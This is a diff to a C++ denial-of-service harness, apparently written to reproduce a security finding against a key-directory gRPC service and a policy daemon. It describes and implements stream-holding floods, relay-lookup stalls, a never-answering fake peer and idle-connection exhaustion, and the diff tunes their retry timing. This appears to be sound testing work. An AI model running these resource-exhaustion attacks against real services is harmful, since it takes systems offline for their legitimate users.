@@ -4,17 +4,21 @@
 //   --kind watch-flood --target HOST:PORT [--count 6000]
 //       opens COUNT WatchRevocations streams from sequence 0 over 24
 //       connections with small HTTP/2 windows, never reads, and opens a new
-//       one whenever one ends (refused or dropped), 100 ms later.
+//       one whenever one ends (refused or dropped), a second later (as a
+//       client retrying with backoff would: the attack holds streams, it is
+//       not a flood of refused calls).
 //   --kind relay-flood --target HOST:PORT --suffix c.example [--count 64]
 //       keeps COUNT lookups of random names under SUFFIX (a peer's) in
-//       flight at all times.
+//       flight, each slot asking again when its lookup ends, at most 10
+//       times a second (the finding's stall, not a flood of fast errors).
 //   --kind stalling-peer --backend HOST:PORT
 //       serves KeyDirectory on 127.0.0.1:0: GetOrgInfo from BACKEND (so it
 //       can be added as a peer), every lookup never answered until its
 //       caller gives up. Prints "listening on 127.0.0.1:PORT".
 //   --kind idle-connections --target HOST:PORT [--count 256]
 //       holds COUNT idle TCP connections (to mxkey-policyd's socketmap
-//       listener), reconnecting any that are closed.
+//       listener), reconnecting any that are closed, each at most once a
+//       second.
 //
 // Prints "attacking" once the attack runs. Exit 2 on bad flags.
 #include <arpa/inet.h>
@@ -86,7 +90,7 @@ void WatchFlood(const std::string& target, int count) {
   std::printf("attacking\n");
   std::fflush(stdout);
   for (;;) {
-    std::this_thread::sleep_for(std::chrono::milliseconds(100));
+    std::this_thread::sleep_for(std::chrono::seconds(1));
     for (int i = 0; i < count; ++i) {
       if (ended[i].exchange(false)) {
         new UnreadWatch(stubs[static_cast<size_t>(i % kChannels)].get(),
@@ -108,6 +112,8 @@ class RelayFlood {
       grpc::ClientContext ctx;
       v1::GetHostKeysRequest req;
       v1::KeyAnswer answer;
+      std::chrono::steady_clock::time_point started =
+          std::chrono::steady_clock::now();
     };
     auto* call = new Call;
     {
@@ -118,7 +124,10 @@ class RelayFlood {
                            std::chrono::seconds(10));
     stub_->async()->GetHostKeys(&call->ctx, &call->req, &call->answer,
                                 [this, call](grpc::Status) {
+                                  const auto next = call->started +
+                                                    std::chrono::milliseconds(100);
                                   delete call;
+                                  std::this_thread::sleep_until(next);
                                   Start();
                                 });
   }
@@ -201,7 +210,7 @@ void IdleConnections(const std::string& target, int count) {
       }
       if (fd < 0) fd = Connect(target);
     }
-    std::this_thread::sleep_for(std::chrono::milliseconds(100));
+    std::this_thread::sleep_for(std::chrono::seconds(1));
   }
 }
 
